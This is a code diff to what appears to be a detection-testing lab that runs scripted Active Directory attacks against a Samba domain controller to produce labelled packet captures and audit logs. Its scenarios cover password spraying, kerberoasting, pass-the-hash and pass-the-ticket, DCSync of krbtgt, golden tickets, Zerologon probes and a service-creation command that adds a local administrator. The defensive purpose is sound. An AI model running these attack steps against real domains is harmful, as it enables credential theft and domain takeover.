@@ -414,16 +414,19 @@ def extract_audit(start: int) -> list[str]:
         data = f.read().decode("utf-8", "replace")
     out = []
     for line in data.splitlines():
-        i = line.find("{")
-        if i < 0:
-            continue
-        cand = line[i:].rstrip()
-        try:
-            obj = json.loads(cand)
-        except ValueError:
-            continue
-        if isinstance(obj, dict) and "type" in obj and "timestamp" in obj:
-            out.append(cand)
+        # a record is a whole JSON object at the end of a line; Samba sometimes appends it to
+        # an unterminated debug message, so try each '{"timestamp"' start
+        i = line.find('{"timestamp"')
+        while i >= 0:
+            cand = line[i:].rstrip()
+            try:
+                obj = json.loads(cand)
+            except ValueError:
+                i = line.find('{"timestamp"', i + 1)
+                continue
+            if isinstance(obj, dict) and "type" in obj:
+                out.append(cand)
+            break
     return out
 
 
@@ -469,12 +472,456 @@ def scenario(name: str, expected: str = "", key_entities: str = "", notes: str =
     return deco
 
 
-# SCENARIOS_HERE
+# --------------------------------------------------------------------------- scenario helpers
+
+PW = {name: pw for name, pw, _g, _e in USERS}
+PW["Administrator"] = ADMIN_PASS
+
+
+def nthash(password: str) -> str:
+    """NT hash (MD4 of UTF-16LE) via the lab venv's impacket (hashlib may lack MD4)."""
+    return subprocess.run([str(VPY), "-c", "import sys;from impacket.ntlm import compute_nthash;"
+                           "print(compute_nthash(sys.argv[1]).hex())", password],
+                          capture_output=True, text=True, check=True).stdout.strip()
+
+
+def host_of(ns: str) -> str:
+    return f"{HOSTS[ns][1].upper()} ({HOSTS[ns][0]})"
+
+
+def step(s: Scenario, ns: str, name: str, *args: str, desc: str = "", check: bool = True):
+    """One lab.attacks step inside `ns`, recorded in the scenario's provenance."""
+    r = attack(ns, name, *args, check=check)
+    shown = " ".join(a if " " not in a else repr(a) for a in args)
+    s.steps.append(f"{host_of(ns)}: {desc + ' - ' if desc else ''}impacket/ldap3 step "
+                   f"`python -m lab.attacks {name} {shown}`")
+    return r
+
+
+def tool(s: Scenario, ns: str, cmd: str, desc: str = "", stdin: str | None = None,
+         check: bool = True) -> subprocess.CompletedProcess:
+    """A stock client tool (MIT kinit, Samba smbclient/samba-tool) inside `ns`."""
+    env = dict(os.environ)
+    env.pop("KRB5CCNAME", None)
+    log(f"$ [{ns}] {cmd}")
+    r = subprocess.run(["ip", "netns", "exec", ns, "bash", "-c", cmd], input=stdin, text=True,
+                       capture_output=True, env=env, timeout=120)
+    for line in ((r.stdout or "") + (r.stderr or "")).rstrip().splitlines()[-8:]:
+        print(f"    {ns}| {line}")
+    if check and r.returncode != 0:
+        raise RuntimeError(f"tool command failed in {ns}: {cmd}")
+    s.steps.append(f"{host_of(ns)}: {desc + ' - ' if desc else ''}`{cmd}`")
+    return r
+
+
+def kinit(s: Scenario, ns: str, user: str, password: str, cc: str, desc: str = "") -> None:
+    tool(s, ns, f"KRB5CCNAME={WORK}/{cc} kinit -f '{user}@{REALM}' >/dev/null",
+         desc or f"{user} logs on (MIT kinit, AES)", stdin=password + "\n")
+
+
+def smbclient_krb(s: Scenario, ns: str, cc: str, share: str, commands: str, desc: str = "",
+                  check: bool = True) -> None:
+    nb = HOSTS[ns][1].upper()
+    tool(s, ns, f"KRB5CCNAME={WORK}/{cc} smbclient -n {nb} //dc01.{DNS_DOMAIN}/{share} "
+         f"--use-kerberos=required --use-krb5-ccache={WORK}/{cc} -c '{commands}'", desc,
+         check=check)
+
+
+DEFAULT_GPO = "{31B2F340-016D-11D2-945F-00C04FB984F9}"
+DC_GPO = "{6AC1786C-016F-11D2-945F-00C04FB984F9}"
+
+
+def domain_facts() -> dict:
+    def ldb(base: str, attr: str) -> str:
+        out = subprocess.run(["ip", "netns", "exec", "dcw-dc", "ldbsearch", "-H",
+                              str(SAMBA / "private" / "sam.ldb"), "-b", base, "-s", "base",
+                              attr], capture_output=True, text=True).stdout
+        for line in out.splitlines():
+            if line.startswith(attr + ":"):
+                return line.split(":", 1)[1].strip()
+        raise RuntimeError(f"no {attr} on {base}")
+    return {"sid": ldb(BASE_DN, "objectSid"),
+            "krbtgt_kvno": ldb(f"CN=krbtgt,CN=Users,{BASE_DN}", "msDS-KeyVersionNumber")}
+
+
+def benign_activity(s: Scenario, short: bool = False) -> None:
+    """Ordinary domain life: logons with stock clients, GPO reads, DNS, a little admin work."""
+    step(s, "dcw-ws1", "dns_axfr", "--srv", f"_ldap._tcp.dc._msdcs.{DNS_DOMAIN}",
+         f"_kerberos._tcp.{DNS_DOMAIN}", desc="DC locator SRV look-ups")
+    kinit(s, "dcw-ws1", "WS1$", dict(COMPUTERS)["WS1"], "ws1machine.cc",
+          "WS1 machine account logs on (MIT kinit)")
+    smbclient_krb(s, "dcw-ws1", "ws1machine.cc", "sysvol",
+                  f"cd {DNS_DOMAIN}/Policies/{DEFAULT_GPO}; get GPT.INI /dev/null; "
+                  "cd MACHINE; ls", "WS1$ reads the Default Domain Policy from SYSVOL")
+    kinit(s, "dcw-ws1", "alice", PW["alice"], "alice.cc", "alice logs on at WS1 (kinit, AES)")
+    smbclient_krb(s, "dcw-ws1", "alice.cc", "sysvol",
+                  f"cd {DNS_DOMAIN}/Policies/{DEFAULT_GPO}; get GPT.INI /dev/null; "
+                  "cd USER; ls", "alice's user GPO processing")
+    smbclient_krb(s, "dcw-ws1", "alice.cc", "data", "get readme.txt /dev/null",
+                  "alice opens a file on the data share")
+    if short:
+        return
+    kinit(s, "dcw-ws2", "bob", PW["bob"], "bob.cc", "bob logs on at WS2 (kinit, AES)")
+    smbclient_krb(s, "dcw-ws2", "bob.cc", "netlogon", "ls", "bob lists NETLOGON")
+    tool(s, "dcw-ws2", f"smbclient -n WS2 //dc01.{DNS_DOMAIN}/data -U 'CONTOSO\\bob%{PW['bob']}'"
+         " -c 'ls; get readme.txt /dev/null'", "bob maps the data share with NTLM")
+    kinit(s, "dcw-ws2", "hd.admin", PW["hd.admin"], "hd.cc",
+          "helpdesk admin logs on at WS2")
+    tool(s, "dcw-ws2", f"KRB5CCNAME={WORK}/hd.cc samba-tool user setexpiry dave --noexpiry "
+         f"-H ldap://dc01.{DNS_DOMAIN} --use-kerberos=required", 
+         "helpdesk admin work: clear dave's password expiry over LDAP (samba-tool)",
+         check=False)
+    tool(s, "dcw-ws2", f"KRB5CCNAME={WORK}/hd.cc samba-tool user show erin "
+         f"-H ldap://dc01.{DNS_DOMAIN} --use-kerberos=required",
+         "helpdesk admin looks up erin's account", check=False)
+
+
+# --------------------------------------------------------------------------- the scenarios
+
+@scenario("benign_baseline", key_entities="alice;bob;hd.admin;WS1$;WS1;WS2;10.77.0.21;10.77.0.22;DC01",
+          notes="Ordinary domain life and nothing else: DC-locator SRV look-ups; WS1$ machine and "
+                "user Kerberos logons (MIT kinit, AES, pre-auth) and SYSVOL GPO reads "
+                "(GPT.INI) with smbclient; bob on WS2 over Kerberos and NTLM reading shares; "
+                "the helpdesk admin (hd.admin, Account Operators) changes a user's expiry and "
+                "looks up a user over sealed LDAP. No alert expected (strict negative).")
+def sc_benign(s):
+    benign_activity(s)
+
+
+@scenario("smb_session_enum", expected="2012",
+          key_entities="alice;da.admin;WS1;10.77.0.21;DC01;10.77.0.10",
+          notes="NetrSessionEnum (srvsvc opnum 12) over SMB \\pipe\\srvsvc from WS1 at levels "
+                "10, 502, 1 and 0, first as the ordinary user alice (Samba answers "
+                "ACCESS_DENIED: only administrators may enumerate sessions), then as da.admin "
+                "(levels 0/1 answered; Samba does not implement 10/502). da.admin holds an SMB "
+                "session from WS2 during the enumeration.")
+def sc_session_enum(s):
+    s.audit_expected, s.audit_tolerated = "", "2012"
+    holder = start_holder(s, "dcw-ws2", "da.admin", 20)
+    step(s, "dcw-ws1", "session_enum", "--user", "alice", "--password", PW["alice"],
+         desc="SMB session enumeration as alice")
+    step(s, "dcw-ws1", "session_enum", "--user", "da.admin", "--password", PW["da.admin"],
+         "--levels", "1", "0", desc="SMB session enumeration as da.admin")
+    stop_holder(holder)
+
+
+def start_holder(s: Scenario, ns: str, user: str, seconds: int) -> subprocess.Popen:
+    """A background SMB session (user logged on at a workstation) for `seconds`."""
+    env = dict(os.environ, PYTHONPATH=str(REPO), DCW_LAB_WORK=str(WORK))
+    p = subprocess.Popen(["ip", "netns", "exec", ns, str(VPY), "-m", "lab.attacks", "smb_login",
+                          "--user", user, "--password", PW[user], "--hold", str(seconds)],
+                         env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    s.steps.append(f"{host_of(ns)}: {user} keeps an SMB session to the DC open "
+                   f"(`python -m lab.attacks smb_login --user {user} --hold {seconds}`)")
+    time.sleep(2)
+    return p
+
+
+def stop_holder(p: subprocess.Popen) -> None:
+    try:
+        p.wait(timeout=30)
+    except subprocess.TimeoutExpired:
+        p.terminate()
+        p.wait()
+
+
+@scenario("samr_recon", expected="2021", key_entities="alice;WS1;10.77.0.21;DC01;Domain Admins",
+          notes="SAMR over SMB \\pipe\\samr from WS1 as alice: SamrConnect5, "
+                "EnumerateDomainsInSamServer, LookupDomainInSamServer, OpenDomain, "
+                "EnumerateUsersInDomain (opnum 13), EnumerateGroupsInDomain, OpenGroup(512 "
+                "Domain Admins)/GetMembersInGroup, OpenGroup(519), LookupIdsInDomain, "
+                "OpenAlias(544 Administrators)/GetMembersInAlias.")
+def sc_samr(s):
+    s.audit_expected, s.audit_tolerated = "", "2021"
+    step(s, "dcw-ws1", "samr_recon", "--user", "alice", "--password", PW["alice"],
+         desc="net user /domain + net group \"Domain Admins\" /domain equivalent")
+
+
+@scenario("ldap_recon", expected="2038", tolerated="2210",
+          key_entities="alice;WS1;10.77.0.21;DC01",
+          notes="BloodHound/SharpHound-style LDAP collection from WS1 as alice (ldap3, NTLM bind "
+                "without sealing, so the filters are visible): rootDSE, all users "
+                "(samAccountType=805306368), all groups, adminCount=1, servicePrincipalName=*, "
+                "UAC bitwise filters 4194304 (DONT_REQ_PREAUTH), 524288 (TRUSTED_FOR_DELEGATION),"
+                " 8192 (DCs), computers, GPOs, trusts, OUs, msDS-AllowedToDelegateTo.")
+def sc_ldap(s):
+    s.audit_expected, s.audit_tolerated = "", "2038;2210"
+    step(s, "dcw-ws1", "ldap_recon", "--user", "alice", "--password", PW["alice"],
+         desc="BloodHound-like LDAP queries")
+
+
+@scenario("dns_axfr", expected="2007", key_entities="WS1;10.77.0.21;DC01;contoso.local",
+          notes="DNS reconnaissance from WS1: SRV look-ups, then AXFR (zone transfer) requests over"
+                " TCP/53 for contoso.local and _msdcs.contoso.local; Samba's internal DNS refuses"
+                " the transfer (the requests are on the wire).")
+def sc_dns(s):
+    s.audit_expected, s.audit_tolerated = "", "2007"
+    step(s, "dcw-ws1", "dns_axfr", "--srv", f"_ldap._tcp.{DNS_DOMAIN}", "--zones", DNS_DOMAIN,
+         f"_msdcs.{DNS_DOMAIN}", desc="nslookup ls -d / dig axfr equivalent")
+
+
+@scenario("kerberos_user_enum", expected="2003", key_entities="WS1;10.77.0.21;DC01",
+          notes="Account enumeration from WS1: 40 Kerberos AS-REQs (no pre-auth data) for "
+                "mostly nonexistent user names; the KDC answers KDC_ERR_C_PRINCIPAL_UNKNOWN "
+                "for absent names and PREAUTH_REQUIRED/PREAUTH_FAILED for the real ones "
+                "(alice, bob, svc_sql, legacy.app in the list).")
+def sc_user_enum(s):
+    s.audit_expected, s.audit_tolerated = "2003", ""
+    step(s, "dcw-ws1", "user_enum", "--count", "36", "--names", "alice", "bob", "svc_sql",
+         "administrator", desc="kerbrute userenum-like")
+
+
+@scenario("password_spray_kerberos", expected="2023",
+          key_entities="WS1;10.77.0.21;DC01;alice;bob;carol;dave;erin;svc_sql;hd.admin",
+          notes="Password spray over Kerberos from WS1: one password (Winter2024!) against 9 "
+                "accounts via AS-REQ with PA-ENC-TIMESTAMP; 8 KDC_ERR_PREAUTH_FAILED, one "
+                "success (carol).")
+def sc_spray(s):
+    s.audit_expected, s.audit_tolerated = "2023", ""
+    step(s, "dcw-ws1", "spray", "--password", "Winter2024!", "--users", "alice", "bob",
+         "carol", "dave", "erin", "svc_sql", "hd.admin", "da.admin", "Administrator",
+         desc="kerbrute passwordspray-like")
+
+
+@scenario("brute_force_ntlm", expected="2023", key_entities="WS1;10.77.0.21;DC01;dave",
+          notes="Brute force over SMB/NTLM from WS1: 15 wrong passwords for dave "
+                "(STATUS_LOGON_FAILURE each), then 1 for erin.")
+def sc_brute(s):
+    s.audit_expected, s.audit_tolerated = "2023", ""
+    pws = ["Password1", "Welcome1", "Summer2024!", "Winter2024!", "P@ssw0rd", "Contoso1",
+           "Contoso2024!", "Dave2024", "dave123", "Qwerty123", "Letmein1", "Spring2024!",
+           "Autumn2024!", "Passw0rd!", "Changeme1"]
+    step(s, "dcw-ws1", "brute_ntlm", "--users", "dave", "--passwords", *pws,
+         desc="hydra/crackmapexec-like SMB brute force")
+
+
+@scenario("asrep_roast", expected="2412", key_entities="legacy.app;WS1;10.77.0.21;DC01",
+          notes="AS-REP roasting from WS1: AS-REQ without pre-authentication for legacy.app "
+                "(DONT_REQ_PREAUTH set) asking only RC4 (etype 23); the KDC returns an AS-REP "
+                "whose enc-part is crackable offline. Also tries alice (PREAUTH_REQUIRED).")
+def sc_asrep(s):
+    s.audit_expected, s.audit_tolerated = "", "2412"
+    step(s, "dcw-ws1", "asrep_roast", "--users", "legacy.app", "alice",
+         desc="GetNPUsers-like AS-REQ without pre-auth")
+
+
+@scenario("kerberoast", expected="2410", key_entities="alice;svc_sql;WS1;10.77.0.21;DC01",
+          notes="Kerberoasting from WS1: alice gets a TGT (AES), then TGS-REQs asking only RC4 "
+                "(etype 23) for MSSQLSvc/sql01.contoso.local:1433 (svc_sql) and for a "
+                "nonexistent SPN.")
+def sc_kerberoast(s):
+    s.audit_expected, s.audit_tolerated = "", "2410"
+    step(s, "dcw-ws1", "kerberoast", "--user", "alice", "--password", PW["alice"], "--spns",
+         "MSSQLSvc/sql01.contoso.local:1433", "HTTP/intranet.contoso.local",
+         desc="GetUserSPNs -request equivalent (TGS-REQ built by hand)")
+
+
+@scenario("overpass_the_hash", expected="2008", tolerated="2002",
+          key_entities="hd.admin;WS1;10.77.0.21;DC01",
+          notes="Overpass-the-hash from WS1: AS-REQ for hd.admin offering only RC4-HMAC "
+                "(etype 23) with PA-ENC-TIMESTAMP made from hd.admin's NT hash (every other "
+                "client in the lab offers AES first); TGS for cifs/dc01 and an SMB session with "
+                "the ticket. 2002 (tool-built AS-REQ) tolerated.")
+def sc_opth(s):
+    # Samba's KDC Authentication record: passwordType arcfour-hmac-md5 (others are AES)
+    s.audit_expected, s.audit_tolerated = "2008", "2002"
+    step(s, "dcw-ws1", "asktgt", "--user", "hd.admin", "--nthash", nthash(PW["hd.admin"]),
+         "--use-spn", f"cifs/dc01.{DNS_DOMAIN}", "--smb",
+         desc="Rubeus asktgt /rc4 equivalent with hd.admin's NT hash")
+
+
+@scenario("pass_the_ticket", expected="2018",
+          key_entities="da.admin;WS1;WS2;10.77.0.21;10.77.0.22;DC01",
+          notes="Pass-the-ticket: da.admin logs on at WS2 (10.77.0.22, MIT kinit, AES TGT); the "
+                "same TGT (ccache copied) is then used from WS1 (10.77.0.21) for TGS-REQs "
+                "(cifs/dc01) and an SMB session to the DC.")
+def sc_ptt(s):
+    s.audit_expected, s.audit_tolerated = "", "2018"
+    kinit(s, "dcw-ws2", "da.admin", PW["da.admin"], "da.cc", "da.admin logs on at WS2")
+    smbclient_krb(s, "dcw-ws2", "da.cc", "netlogon", "ls", "da.admin uses the ticket on WS2")
+    step(s, "dcw-ws1", "smb_login", "--ccache", f"{WORK}/da.cc",
+         desc="the stolen da.admin TGT used from WS1")
+
+
+EVIL_CMD = ("cmd.exe /c net user eviluser P@ss1234! /add && "
+            "net localgroup administrators eviluser /add")
+
+
+@scenario("remote_exec", expected="2019", tolerated="2026",
+          key_entities="da.admin;WS1;10.77.0.21;DC01;WinUpdSvc;eviluser",
+          notes="Remote code execution attempts against the DC from WS1 as da.admin: svcctl "
+                "OpenSCManagerW + CreateServiceW 'WinUpdSvc' with binary path '" + EVIL_CMD +
+                "' (Samba does not implement service creation: nca_s_op_rng_error), then "
+                "Task Scheduler via \\pipe\\atsvc (SchRpcRegisterTask and NetrJobAdd; Samba "
+                "has no atsvc pipe: STATUS_OBJECT_NAME_NOT_FOUND). The requests are on the wire; "
+                "nothing ran.")
+def sc_rce(s):
+    s.audit_expected, s.audit_tolerated = "", "2019;2026"
+    step(s, "dcw-ws1", "svcctl", "--user", "da.admin", "--password", PW["da.admin"], "--name",
+         "WinUpdSvc", "--binpath", EVIL_CMD, desc="psexec/smbexec-style service creation")
+    step(s, "dcw-ws1", "atsvc", "--user", "da.admin", "--password", PW["da.admin"], "--name",
+         "WinUpdTask", "--cmd", "net user eviluser P@ss1234! /add",
+         desc="atexec-style task registration")
+
+
+@scenario("user_added_to_admins", expected="2024",
+          key_entities="da.admin;eviluser2;Domain Admins;Administrators;WS1;10.77.0.21;DC01",
+          notes="From WS1 as da.admin over LDAP (ldap3, NTLM bind, unsealed): add user "
+                "eviluser2, add it to Domain Admins and to BUILTIN\\Administrators, then delete "
+                "it after 2 s.")
+def sc_add_admin(s):
+    s.audit_expected, s.audit_tolerated = "2024", ""
+    step(s, "dcw-ws1", "add_admin", "--user", "da.admin", "--password", PW["da.admin"],
+         "--new-user", "eviluser2", "--groups", "Domain Admins", "Administrators",
+         "--cleanup-after", "2", desc="net user /add + net group \"Domain Admins\" /add")
+
+
+@scenario("dcsync", expected="2006", key_entities="da.admin;krbtgt;WS1;10.77.0.21;DC01",
+          notes="DCSync from WS1 (not a DC) as da.admin with impacket secretsdump "
+                "-just-dc-user krbtgt: epm map, DRSUAPI over ncacn_ip_tcp with NTLM and packet "
+                "privacy: DRSBind, DRSDomainControllerInfo, DRSCrackNames, DRSGetNCChanges "
+                "(EXOP_REPL_OBJ) - krbtgt's NT hash and AES keys returned.")
+def sc_dcsync(s):
+    s.audit_expected, s.audit_tolerated = "", "2006"
+    step(s, "dcw-ws1", "dcsync", "--user", "da.admin", "--nthash", nthash(PW["da.admin"]),
+         "--target-user", "krbtgt", desc="secretsdump.py -just-dc-user krbtgt")
+
+
+@scenario("dpapi_backupkey", expected="2020", key_entities="da.admin;WS1;10.77.0.21;DC01",
+          notes="MS-BKRP BackuprKey with BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID over SMB "
+                "\\pipe\\protected_storage (packet privacy) from WS1 as da.admin "
+                "(mimikatz lsadump::backupkeys / dpapi.py backupkeys equivalent).")
+def sc_bkrp(s):
+    s.audit_expected, s.audit_tolerated = "", "2020"
+    step(s, "dcw-ws1", "bkrp", "--user", "da.admin", "--password", PW["da.admin"],
+         desc="DPAPI domain backup key retrieval")
+
+
+def golden_steps(s: Scenario) -> None:
+    facts = domain_facts()
+    if not (WORK / "krbtgt.secrets.json").exists():
+        raise RuntimeError("golden ticket needs krbtgt secrets (run dcsync first)")
+    step(s, "dcw-ws1", "golden", "--rc4", "--domain-sid", facts["sid"], "--kvno",
+         facts["krbtgt_kvno"], desc="ticketer.py golden ticket with krbtgt's NT hash (RC4)")
+    step(s, "dcw-ws1", "golden", "--domain-sid", facts["sid"], "--kvno", facts["krbtgt_kvno"],
+         desc="ticketer.py golden ticket with krbtgt's AES256 key, used for TGS + SMB")
+
+
+@scenario("golden_ticket", expected="2032", tolerated="2013;2022;2027;2040",
+          key_entities="Administrator;krbtgt;WS1;10.77.0.21;DC01",
+          notes="Golden ticket from WS1 (krbtgt keys taken by a DCSync outside this capture): "
+                "TGT for Administrator (RID 500, groups 513/512/520/518/519, 10-year lifetime) "
+                "forged with impacket ticketer; first an RC4-encrypted one (TGS-REQ whose TGT "
+                "enc-part is etype 23 while the KDC issues AES: refused by Samba with "
+                "KRB_AP_ERR_BADKEYVER), then an AES256 one used for TGS-REQs (cifs/, ldap/dc01) "
+                "and an SMB session. No AS exchange for Administrator exists.")
+def sc_golden(s):
+    s.audit_expected, s.audit_tolerated = "", "2013;2022;2027;2032;2040"
+    if not (WORK / "krbtgt.secrets.json").exists():
+        # obtain the krbtgt keys outside the capture window
+        attack("dcw-ws1", "dcsync", "--user", "da.admin", "--nthash", nthash(PW["da.admin"]))
+    golden_steps(s)
+
+
+@scenario("zerologon_attempt", expected="2411", key_entities="WS1;10.77.0.21;DC01;DC01$",
+          notes="Zerologon (CVE-2020-1472) probe from WS1: netlogon over ncacn_ip_tcp, 40x "
+                "NetrServerReqChallenge + NetrServerAuthenticate3 for DC01$ with an all-zero "
+                "client credential and challenge (Samba refuses each with ACCESS_DENIED).")
+def sc_zerologon(s):
+    s.audit_expected, s.audit_tolerated = "", "2411"
+    step(s, "dcw-ws1", "zerologon", "--attempts", "40", desc="zerologon_tester-like")
+
+
+@scenario("large_smb_read", expected="2030", snaplen=256,
+          key_entities="alice;WS1;10.77.0.21;DC01;ntds.dit",
+          notes="alice copies \\\\dc01\\data\\backup\\ntds.dit (48 MiB) from the DC to WS1 over "
+                "SMB2 (captured with snaplen 256: headers only).")
+def sc_large_read(s):
+    s.audit_expected, s.audit_tolerated = "", "2030"
+    step(s, "dcw-ws1", "smb_login", "--user", "alice", "--password", PW["alice"], "--list",
+         "data:backup/*", "--read", "data:backup/ntds.dit", desc="copy of a large file")
+
+
+@scenario("honeytoken_logon", expected="2014",
+          key_entities="backup.admin;WS2;10.77.0.22;DC01",
+          notes="The honeytoken account backup.admin (description says never used) "
+                "authenticates from WS2: Kerberos AS exchange (kinit) and an SMB/NTLM logon.")
+def sc_honeytoken(s):
+    s.audit_expected, s.audit_tolerated = "2014", ""
+    kinit(s, "dcw-ws2", "backup.admin", PW["backup.admin"], "honey.cc",
+          "honeytoken Kerberos logon")
+    step(s, "dcw-ws2", "smb_login", "--user", "backup.admin", "--password",
+         PW["backup.admin"], desc="honeytoken NTLM logon")
+
+
+@scenario("killchain", expected="2012;2008;2018;2019;2006;2032",
+          tolerated="2002;2013;2022;2026;2027;2040;2021",
+          key_entities="alice;hd.admin;da.admin;Administrator;krbtgt;WS1;WS2;10.77.0.21;"
+                       "10.77.0.22;DC01;10.77.0.10;WinUpdSvc;eviluser",
+          notes="One attack story in order (see README.md): (1) baseline: DC locator, WS1$ and "
+                "alice logons + GPO reads, da.admin logs on at WS2 and keeps an SMB session; "
+                "(2) alice on WS1 runs NetrSessionEnum (srvsvc, levels 10/502/1/0: "
+                "ACCESS_DENIED from Samba) to find where da.admin is logged on; (3) "
+                "overpass-the-hash: RC4-only AS-REQ for hd.admin from its stolen NT hash, TGS "
+                "cifs/dc01 and SMB; (4) pass-the-ticket: da.admin's TGT from WS2 used from WS1 "
+                "(TGS-REQ + SMB from 10.77.0.21); (5) remote code execution on the DC with "
+                "that ticket: svcctl CreateServiceW WinUpdSvc '" + EVIL_CMD + "' (refused by "
+                "Samba, on the wire); (6) DCSync of krbtgt from WS1 as da.admin (DRSUAPI "
+                "DRSGetNCChanges, NTLM with da.admin's NT hash); (7) golden ticket for "
+                "Administrator: RC4-forged TGT (TGS-REQ refused) and AES-forged TGT used for "
+                "TGS-REQs and SMB.")
+def sc_killchain(s):
+    # Samba's KDC record names the pre-auth key type: arcfour-hmac-md5 for hd.admin (2008)
+    s.audit_expected = "2008"
+    s.audit_tolerated = "2012;2018;2019;2006;2032;2002;2013;2022;2026;2027;2040"
+    # (1) baseline
+    benign_activity(s, short=True)
+    kinit(s, "dcw-ws2", "da.admin", PW["da.admin"], "da.cc", "da.admin logs on at WS2")
+    smbclient_krb(s, "dcw-ws2", "da.cc", "sysvol", f"cd {DNS_DOMAIN}/Policies; ls",
+                  "da.admin's GPO processing on WS2")
+    holder = start_holder(s, "dcw-ws2", "da.admin", 15)
+    # (2) recon of sessions
+    step(s, "dcw-ws1", "session_enum", "--user", "alice", "--password", PW["alice"],
+         desc="(2) alice enumerates SMB sessions on the DC")
+    stop_holder(holder)
+    # (3) overpass-the-hash
+    step(s, "dcw-ws1", "asktgt", "--user", "hd.admin", "--nthash", nthash(PW["hd.admin"]),
+         "--use-spn", f"cifs/dc01.{DNS_DOMAIN}", "--smb",
+         desc="(3) overpass-the-hash with hd.admin's NT hash (RC4-only AS-REQ)")
+    # (4) pass-the-ticket
+    step(s, "dcw-ws1", "smb_login", "--ccache", f"{WORK}/da.cc",
+         desc="(4) pass-the-ticket: da.admin's WS2 TGT used from WS1")
+    # (5) remote code execution on the DC
+    step(s, "dcw-ws1", "svcctl", "--ccache", f"{WORK}/da.cc", "--name", "WinUpdSvc",
+         "--binpath", EVIL_CMD, desc="(5) service creation on the DC with the stolen ticket")
+    # (6) DCSync
+    step(s, "dcw-ws1", "dcsync", "--user", "da.admin", "--nthash", nthash(PW["da.admin"]),
+         "--target-user", "krbtgt", desc="(6) DCSync of krbtgt")
+    # (7) golden ticket
+    golden_steps(s)
 
 
 # --------------------------------------------------------------------------- main
 
-def write_labels(out: Path, rows: list[dict]) -> None:
+def scenario_rows(s: Scenario, vers: dict) -> list[dict]:
+    src = (f" [source: dcwatch lab `python3 lab/run.py --scenario {s.name}`, "
+           f"Samba {vers['samba'].replace('Version ', '')}, impacket {vers['impacket']}]")
+    return [
+        {"file": "dc.pcap", "expected_external_ids": s.expected,
+         "key_entities": s.key_entities,
+         "notes": "PCAP of the DC's interface (tcpdump in the DC namespace). " + s.notes + src,
+         "tolerated_external_ids": s.tolerated},
+        {"file": "samba-audit.jsonl",
+         "expected_external_ids": getattr(s, "audit_expected", s.expected),
+         "key_entities": s.key_entities,
+         "notes": ("same run, the DC's Samba JSON audit records (Authentication, Authorization,"
+                   " dsdbChange, passwordChange, groupChange, dsdbTransaction), one per line. "
+                   + s.notes + src),
+         "tolerated_external_ids": getattr(s, "audit_tolerated", s.tolerated)},
+    ]
+
+
+def write_labels(out: Path, rows: list[dict], prefix: str = "") -> None:
     path = out / "labels.csv"
     existing: dict[str, dict] = {}
     if path.exists():
@@ -534,7 +981,6 @@ def main(argv: list[str] | None = None) -> int:
         WORK.mkdir(parents=True)
         if args.no_scenarios:
             return 0
-        rows = []
         for n in names:
             s = SCENARIOS[n]
             log(f"=== scenario {n}")
@@ -550,17 +996,10 @@ def main(argv: list[str] | None = None) -> int:
                 continue
             size = (d / "dc.pcap").stat().st_size
             log(f"scenario {n}: pcap {size} bytes, {len(cap.audit)} audit records")
-            rows.append({"file": f"{n}/dc.pcap", "expected_external_ids": s.expected,
-                         "key_entities": s.key_entities, "notes": s.notes,
-                         "tolerated_external_ids": s.tolerated})
-            rows.append({"file": f"{n}/samba-audit.jsonl",
-                         "expected_external_ids": s.audit_expected
-                         if hasattr(s, "audit_expected") else s.expected,
-                         "key_entities": s.key_entities,
-                         "notes": "same run, Samba JSON audit records. " + s.notes,
-                         "tolerated_external_ids": getattr(s, "audit_tolerated", s.tolerated)})
+            srows = scenario_rows(s, vers)
+            write_labels(d, srows, prefix="")
+            write_labels(out, [{**r, "file": f"{n}/{r['file']}"} for r in srows])
             write_provenance(d, s, vers)
-        write_labels(out, rows)
     finally:
         if not args.keep:
             teardown()
